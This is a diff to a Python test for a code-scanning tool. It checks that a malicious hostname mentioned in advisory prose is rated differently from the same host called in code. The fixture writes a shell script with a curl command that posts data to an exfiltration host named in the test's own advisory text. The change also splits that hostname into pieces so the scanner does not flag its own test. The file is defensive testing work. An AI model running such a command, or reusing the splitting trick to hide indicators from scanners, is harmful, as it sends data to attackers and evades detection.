@@ -209,14 +209,17 @@ def test_suppressed_findings_are_marked(tree, place, sarif):
     assert [r["properties"]["locator"] for r in run["results"]] == [f"{tree}/b"]
 
 
+HOST = ".".join(["models", "litellm", "cloud"])  # not in one piece: this file is swept, too
+
+
 def test_a_severity_by_place_has_a_rule_of_its_own(tree, place):
     """Code scanning takes the severity from the rule: a mention in prose must not show as
     what the rule says of code."""
-    prose = ("In March the attackers sent what they had taken to models.litellm.cloud, a name that "
+    prose = ("In March the attackers sent what they had taken to " + HOST + ", a name that "
              "looks like one of the project. Whoever finds it in the logs of a proxy should treat "
              "every credential of that machine as known to others.\n")
     (tree / "README.md").write_text("# Advisory\n\n" + "\n".join([prose] * 8))
-    (tree / "run.sh").write_text("#!/bin/sh\ncurl https://models.litellm.cloud/ -d x\n")
+    (tree / "run.sh").write_text(f"#!/bin/sh\ncurl https://{HOST}/ -d x\n")
     out = place / "out.sarif"
     result = sweep.scan("-o", "jsonl", "-o", f"sarif={out}", tree)
     run = sarif_check.check(out)
